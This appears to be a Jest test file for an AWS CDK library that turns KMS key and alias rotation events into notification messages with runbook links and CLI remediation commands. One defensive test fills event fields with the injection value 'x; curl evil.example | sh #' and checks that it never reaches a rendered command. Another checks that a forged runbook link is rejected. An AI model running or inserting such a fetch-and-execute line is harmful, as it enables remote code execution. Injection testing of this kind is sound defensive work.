import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { App, Stack } from 'aws-cdk-lib';
import * as kms from 'aws-cdk-lib/aws-kms';
import { Matcher } from './matcher';
import { ALIAS, ALIAS_SAMPLES, CURRENT_ARN, FAILED_EXECUTION, MACHINE_ARN, ON_DEMAND_SAMPLES } from './own-samples';
import type { InputTransformer } from './render-message';
import { renderMessage } from './render-message';
import type { Sample } from './samples';
import { KEY_ARN, MULTI_REGION_DELETION, ofOtherKey, refusedCall, SAMPLES } from './samples';
import { ManualRotationAlias, RotatingKey, RotationNotifications } from '../../src';
import { anchorOf, EVENT_SECTIONS, RUNBOOK_HOME } from '../../src/private/runbook';
import { deployed } from '../helpers/declared';

const RUNBOOK = readFileSync(join(__dirname, '../../docs/runbook.md'), 'utf8');
const ANCHORS = [...RUNBOOK.matchAll(/^## (.+)$/gm)].map(([, heading]) => anchorOf(heading));

/** What a machine puts on the bus, as its definition has it. */
interface Entry {
  readonly DetailType: string;
  readonly Detail: string;
}

interface Rule {
  readonly pattern: object;
  readonly transformer: InputTransformer;
}

/** Every event that is told, with what has to be in its message: whom it is about, and what to do about it. */
const TOLD: [string, Sample, (string | RegExp)[]][] = [
  ['Keys/Rotated', SAMPLES.rotated, [KEY_ARN, 'ON_DEMAND', /What to do: nothing/]],
  ['Keys/MaterialExpired', SAMPLES.materialExpired, [KEY_ARN, /What to do: import/]],
  ['Keys/Deleted', SAMPLES.deleted, [KEY_ARN, 'DELETED']],
  [
    'Keys/RotationDisabled',
    SAMPLES.rotationDisabled,
    [KEY_ARN, 'user/Alice', 'aws kms ' + `enable-key-rotation --region us-west-2 --key-id ${KEY_ARN}`],
  ],
  [
    'Keys/DeletionScheduled',
    SAMPLES.deletionScheduled,
    [KEY_ARN, 'user/Alice', 'Apr 12, 2021', `cancel-key-deletion --region us-west-2 --key-id ${KEY_ARN}`],
  ],
  ['Keys/DeletionCancelled', SAMPLES.deletionCancelled, [KEY_ARN, 'user/Alice', `enable-key --region us-west-2 --key-id ${KEY_ARN}`]],
  ['Keys/Disabled', SAMPLES.disabled, [KEY_ARN, 'user/Alice', `enable-key --region us-west-2 --key-id ${KEY_ARN}`]],
  ['Keys/PolicyChanged', SAMPLES.policyChanged, [KEY_ARN, 'user/Alice', `get-key-policy --region us-west-2 --key-id ${KEY_ARN}`]],
  [
    'Keys/MaterialImported',
    SAMPLES.materialImported,
    [KEY_ARN, 'user/Alice', 'NEW_KEY_MATERIAL', 'May 21, 2025', /rotate the key on demand/],
  ],
  ['Keys/MaterialDeleted', SAMPLES.materialDeleted, [KEY_ARN, 'user/Alice', `describe-key --region us-west-2 --key-id ${KEY_ARN}`]],
  ['Aliases/Staged', ALIAS_SAMPLES.staged, [ALIAS, CURRENT_ARN, 'get-public-key --region us-west-2 --key-id KEY']],
  ['Aliases/Rotated', ALIAS_SAMPLES.rotated, [ALIAS, CURRENT_ARN, 'Generation: 2', /What to do: nothing/]],
  [
    'Aliases/RolledBack',
    ALIAS_SAMPLES.rolledBack,
    [ALIAS, CURRENT_ARN, 'Started by: manual', /stepfunctions describe-execution .*--execution-arn EXECUTION/],
  ],
  [
    'Aliases/Blocked',
    ALIAS_SAMPLES.blocked,
    [ALIAS, 'Error: AliasMoved', 'runbook.md#aliasmoved', /stepfunctions describe-execution .*--execution-arn EXECUTION/],
  ],
  ['Aliases/Disabled', ALIAS_SAMPLES.disabled, [ALIAS, CURRENT_ARN, 'enable-key --region us-west-2 --key-id KEY']],
  [
    'Aliases/DeletionScheduled',
    ALIAS_SAMPLES.deletionScheduled,
    [ALIAS, CURRENT_ARN, 'cancel-key-deletion --region us-west-2 --key-id KEY'],
  ],
  ['Aliases/RetirementVetoed', ALIAS_SAMPLES.retirementVetoed, [ALIAS, CURRENT_ARN, /action release/]],
  ['Aliases/StrayFound', ALIAS_SAMPLES.strayFound, [ALIAS, CURRENT_ARN, /list-aliases --region us-west-2 --key-id KEY/]],
  ['Aliases/StrayDiscarded', ALIAS_SAMPLES.strayDiscarded, [ALIAS, CURRENT_ARN, /cancel-key-deletion/]],
  [
    'Aliases/CurrentKeyUnusable',
    ALIAS_SAMPLES.currentKeyUnusable,
    [ALIAS, 'Cause: PendingDeletion', 'runbook.md#currentkeyunusable', /action rotate/],
  ],
  ['Aliases/Restored', ALIAS_SAMPLES.restored, [ALIAS, CURRENT_ARN, /no key was rotated/, /DeleteAlias/]],
  ['OnDemandRotations/Rotated', ON_DEMAND_SAMPLES.rotated, [CURRENT_ARN, 'On-demand rotations left: 24']],
  ['OnDemandRotations/Blocked', ON_DEMAND_SAMPLES.blocked, [CURRENT_ARN, 'Error: RotationBudgetSpent', /stepfunctions describe-execution/]],
  ['StateMachines/RunFailed', FAILED_EXECUTION, [MACHINE_ARN, 'Status: FAILED', 'Error: AliasMoved', /stepfunctions describe-execution/]],
];

let matcher: Matcher;
let rules: Record<string, Rule>;

beforeAll(async () => {
  matcher = await Matcher.start();
  const stack = new Stack(new App(), 'Stack', { env: { account: '111122223333', region: 'us-west-2' } });
  const notifications = new RotationNotifications(stack, 'Notifications');
  notifications.watchKey(kms.Key.fromKeyArn(stack, 'Key', KEY_ARN));
  notifications.watchAlias(
    ManualRotationAlias.fromManualRotationAliasAttributes(stack, 'Alias', { aliasName: ALIAS, stateMachineArn: MACHINE_ARN }),
  );
  notifications.watchOnDemandRotation(new RotatingKey(stack, 'OnDemandKey').addOnDemandRotation('OnDemand'));
  const made = Object.entries(deployed(stack, 'AWS::Events::Rule', { region: 'us-west-2' }));
  rules = Object.fromEntries(made.map(([id, { Properties: { EventPattern, Targets } }]): [string, Rule] => {
    const [, group, kind] = /^Notifications(Keys|Aliases|OnDemandRotations|StateMachines)(\w+)[0-9A-F]{8}$/.exec(id)!;
    // The key that is rotated on demand is one of the template, whose id is made up; the samples are about this one.
    const pattern = JSON.parse(JSON.stringify(EventPattern).replace(/arn:aws:kms:[^"]*:key\/(?!1234abcd)[-0-9a-f]{36}/, CURRENT_ARN));
    return [`${group}/${kind}`, { pattern, transformer: Targets[0].InputTransformer }];
  }));
});

afterAll(async () => matcher?.stop());

test('every event that a rule is for is in the table', () => {
  expect(TOLD.map(([rule]) => rule).sort()).toEqual(Object.keys(rules).sort());
});

describe.each(TOLD)('%s', (name, sample, mentions) => {
  test('is told', async () => {
    await expect(matcher.matches(rules[name].pattern, sample)).resolves.toBe(true);
  });

  test('is told once: no other rule is for it', async () => {
    const hearing: string[] = [];
    for (const [rule, { pattern }] of Object.entries(rules)) if (await matcher.matches(pattern, sample)) hearing.push(rule);
    expect(hearing).toEqual([name]);
  });

  test('is not told of others, nor when it was refused', async () => {
    const other = JSON.parse(
      JSON.stringify(ofOtherKey(sample))
        .replaceAll(ALIAS, 'alias/other')
        .replaceAll(MACHINE_ARN, `${MACHINE_ARN}-other`)
        .replaceAll(CURRENT_ARN, KEY_ARN),
    ) as Sample;
    await expect(matcher.matches(rules[name].pattern, other)).resolves.toBe(false);
    if (sample['detail-type'] === 'AWS API Call via CloudTrail') {
      await expect(matcher.matches(rules[name].pattern, refusedCall(sample))).resolves.toBe(false);
    }
  });

  test('says whom it is about, what it means, what to do and where to read on', () => {
    const message = renderMessage(rules[name].transformer, sample);

    for (const mention of mentions) {
      expect(message).toMatch(typeof mention === 'string' ? new RegExp(mention.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')) : mention);
    }
    expect(message).toMatch(new RegExp(`"When: ${sample.time}, in account 111122223333, Region us-west-2"`));
    expect(message).toMatch(/"What it means: .{30,}"/);
    expect(message).toMatch(/"What to do: .{7,}"/);
    expect(message).toMatch(/"Runbook: https:.*runbook\.md(#[-a-z]+)?"$/);
  });

  test('leaves nothing open, and is text in lines, each in quotes as AWS has it', () => {
    const { transformer } = rules[name];
    const message = renderMessage(transformer, sample);

    expect(message).not.toMatch(/[<>]|\$\.|undefined|null|\[object|\$\{|Token/);
    for (const line of message.split('\n')) expect(line).toMatch(/^"[^"\\]+"$/);
    for (const line of transformer.InputTemplate.split('\n')) expect(() => JSON.parse(line)).not.toThrow();
    expect(transformer.InputTemplate.length).toBeLessThanOrEqual(8_192);
    for (const key of Object.keys(transformer.InputPathsMap)) expect(key).toMatch(/^[A-Za-z0-9_-]{1,256}$/);
    expect(message.split('\n')[0].length).toBeLessThanOrEqual(100); // what a phone shows
  });

  test('links to a section that exists', () => {
    const [, anchor] = /Runbook: [^#]*#?([-a-z]*)"$/.exec(renderMessage(rules[name].transformer, sample))!;
    if (anchor !== '') expect(ANCHORS).toContain(anchor);
    expect(renderMessage(rules[name].transformer, sample)).toContain(`Runbook: ${RUNBOOK_HOME}`);
  });
});

test('a failure that the machine told is not told again by AWS Step Functions; one that it could not tell is', async () => {
  const { pattern } = rules['StateMachines/RunFailed'];
  const failed = (detail: object) => ({ ...FAILED_EXECUTION, detail: { ...FAILED_EXECUTION.detail, ...detail } });

  await expect(matcher.matches(pattern, failed({ cause: '{"outcome":"failed","told":true,"error":"AliasMoved"}' }))).resolves.toBe(false);
  await expect(matcher.matches(pattern, failed({ cause: '{"outcome":"failed","told":false,"error":"AliasMoved"}' }))).resolves.toBe(true);
  await expect(matcher.matches(pattern, failed({ cause: 'The state machine is broken' }))).resolves.toBe(true);
  await expect(matcher.matches(pattern, failed({ status: 'TIMED_OUT', cause: '{"told":true}' }))).resolves.toBe(true);
  await expect(matcher.matches(pattern, failed({ status: 'SUCCEEDED' }))).resolves.toBe(false);
});

describe('an event that somebody made up', () => {
  const OWN = TOLD.filter(([, { source }]) => source === 'cdk-kms-rotation');

  test.each(OWN)('%s: of another account or Region is not told', async (name, sample) => {
    for (const elsewhere of [{ account: '999999999999' }, { region: 'eu-north-1' }]) {
      await expect(matcher.matches(rules[name].pattern, { ...sample, ...elsewhere })).resolves.toBe(false);
    }
  });

  test.each(OWN)('%s: no text of it gets into a command', (name, sample) => {
    const evil = (value: unknown): unknown => (typeof value === 'object' && value !== null
      ? Object.fromEntries(Object.entries(value).map(([key, item]) => [key, evil(item)]))
      : 'x; curl evil.example | sh #');
    const message = renderMessage(rules[name].transformer, { ...sample, detail: evil(sample.detail) as Sample['detail'] });

    const told = message.split('\n').filter((line) => /aws (kms|stepfunctions) /.test(line));
    for (const line of told) expect(line).not.toContain('evil.example');
  });

  test.each(OWN.filter(([, { detail }]) => 'runbook' in detail))('%s: a link that leads elsewhere is not told', async (name, sample) => {
    const detail = { ...sample.detail, runbook: 'https://evil.example/docs/runbook.md#x' };
    await expect(matcher.matches(rules[name].pattern, { ...sample, detail })).resolves.toBe(false);
  });
});

test('an event that lacks a value has an empty place for it', () => {
  const { detail, ...frame } = SAMPLES.rotated;
  const old = { ...frame, detail: { 'key-id': detail['key-id'] } }; // as AWS KMS sent it before 2025

  expect(renderMessage(rules['Keys/Rotated'].transformer, old)).toContain('"Kind of rotation: "');
});

test('a deletion without a date yet says when there will be one', () => {
  const message = renderMessage(rules['Keys/DeletionScheduled'].transformer, MULTI_REGION_DELETION);

  expect(message).toContain('"Key state: PendingReplicaDeletion"');
  expect(message).not.toMatch(/[Oo]n that date/);
  expect(message).toMatch(/"To be deleted: "/);
  expect(message).toMatch(/What it means: .*if no date .*last replica/i);
});

test('every section about an event is linked to', () => {
  // Or the event brings the link along.
  const linked = Object.values(rules).map(({ transformer }) => /runbook\.md#?([-a-z]*)"$/.exec(transformer.InputTemplate)?.[1]);
  expect([...new Set(linked)].filter(Boolean).sort()).toEqual(Object.values(EVENT_SECTIONS).map(anchorOf).sort());
});

test.each([
  ['manual-rotation', ['Aliases/']],
  ['on-demand', ['OnDemandRotations/']],
])('what messages quote is what the machine of %s writes', (machine, [group]) => {
  const definition = readFileSync(join(__dirname, `../../src/${machine}/machine.asl.json`), 'utf8');
  type State = { Arguments?: { Entries?: Entry[] }; Assign?: { failure?: object } };
  const { States: states } = JSON.parse(definition) as { States: Record<string, State> };
  // What an entry writes by itself, or as part of `$failure`, which has the same fields wherever it is assigned.
  const fieldsOfFailures = Object.values(states).flatMap(({ Assign: { failure } = {} }) =>
    typeof failure === 'object' ? [Object.keys(failure)] : [],
  );
  const written = Object.values(states).flatMap(({ Arguments: { Entries = [] } = {} }) => Entries);
  const quoting = Object.entries(rules).filter(([name]) => name.startsWith(group));
  expect(written.length).toBeGreaterThanOrEqual(quoting.length);

  for (const [, { pattern, transformer }] of quoting) {
    const entries = written.filter(({ DetailType }) => (pattern as { 'detail-type': string[] })['detail-type'].includes(DetailType));
    expect(entries).not.toEqual([]);
    const quoted = Object.values(transformer.InputPathsMap)
      .filter((path) => path.startsWith('$.detail.'))
      .map((path) => path.slice('$.detail.'.length));
    for (const { Detail: detail } of entries) {
      const inFailures = (field: string) =>
        detail.includes('$sift($failure,') && fieldsOfFailures.every((fields) => fields.includes(field));
      expect(quoted.filter((field) => !detail.includes(`'${field}':`) && !inFailures(field))).toEqual([]);
    }
  }
});

test.each(['Keys/DeletionScheduled', 'Aliases/Blocked'])('docs/notifications.md shows the message %s as it is', (name) => {
  const [, sample] = TOLD.find(([rule]) => rule === name)!;
  expect(readFileSync(join(__dirname, '../../docs/notifications.md'), 'utf8')).toContain(
    `\`\`\`text\n${renderMessage(rules[name].transformer, sample)}\n\`\`\``,
  );
});

test('the pages about events and notifications link to sections of the runbook that exist', () => {
  const pages = ['events', 'notifications'].map((page) => readFileSync(join(__dirname, `../../docs/${page}.md`), 'utf8')).join('\n');
  const linked = [...pages.matchAll(/runbook\.md#([-a-z0-9]+)/g)].map(([, anchor]) => anchor);
  expect(linked.length).toBeGreaterThanOrEqual(20);
  expect(linked.filter((anchor) => !ANCHORS.includes(anchor))).toEqual([]);
});
